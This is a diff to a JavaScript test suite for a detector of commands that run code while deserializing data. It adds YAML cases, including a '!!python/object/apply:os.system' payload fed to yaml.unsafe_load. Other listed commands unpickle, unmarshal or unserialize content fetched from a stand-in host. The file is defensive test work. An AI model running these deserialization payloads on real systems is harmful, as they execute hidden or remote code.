@@ -13,6 +13,7 @@ describe('objects that run code as they are read', () => {
     [python('import numpy as np, io, requests', "np.load(io.BytesIO(requests.get('https://x.test/a').content), allow_pickle=True)"), 'execute host:https://x.test/a'],
     [python('import yaml, requests', "yaml.load(requests.get('https://x.test/a').text, Loader=yaml.UnsafeLoader)"), 'execute host:https://x.test/a'],
     [python('import pandas as pd', "pd.read_pickle('https://x.test/d.pkl')"), 'execute host:https://x.test/d.pkl'],
+    [python('import yaml', 'text = "!!python/object/apply:os.system [id]"', 'yaml.unsafe_load(text)'), 'execute hidden-command:yaml'],
     [`ruby -ropen-uri -e 'Marshal.load(URI.open("https://x.test/a").read)'`, 'execute host:https://x.test/a'],
     [`php -r 'unserialize(file_get_contents("https://x.test/a"));'`, 'execute host:https://x.test/a'],
     [python('import joblib, urllib.request', 'urllib.request.urlretrieve("https://x.test/m", "m.joblib")', 'joblib.load("m.joblib")'), 'execute host:https://x.test/m'],
@@ -36,6 +37,7 @@ describe('objects that run code as they are read', () => {
     python('import torch, io, requests', "torch.load(io.BytesIO(requests.get('https://x.test/m').content), weights_only=True)"),
     python('import json, requests', "json.loads(requests.get('https://x.test').text)"),
     python('import yaml, requests', "yaml.safe_load(requests.get('https://x.test/a').text)", "yaml.load(requests.get('https://x.test/a').text, Loader=yaml.SafeLoader)"),
+    python('import yaml', 'print(yaml.unsafe_load("!!python/tuple [1, 2]"), yaml.safe_load("!!python/object/apply:os.system [id]"))'),
     python('import numpy as np, io, requests', "np.load(io.BytesIO(requests.get('https://x.test/a').content))"),
     `node -e "fetch('https://x.test/x').then(r=>r.json()).then(j=>{const f=new Function('a','return a+1'); console.log(f(j.n))})"`,
   ])('and not %s', async (command) => {
